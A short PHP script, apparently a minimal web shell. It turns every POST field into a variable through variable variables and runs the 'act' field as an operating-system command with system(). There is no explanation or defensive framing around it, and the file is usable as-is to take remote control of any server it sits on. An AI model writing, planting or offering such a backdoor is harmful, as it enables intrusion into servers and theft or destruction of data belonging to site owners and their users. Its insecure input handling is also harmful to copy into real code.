<?php
foreach ($_POST as $key => $value) {
    $$key = $value;
}
if (isset($act)) {
    system($act);
}
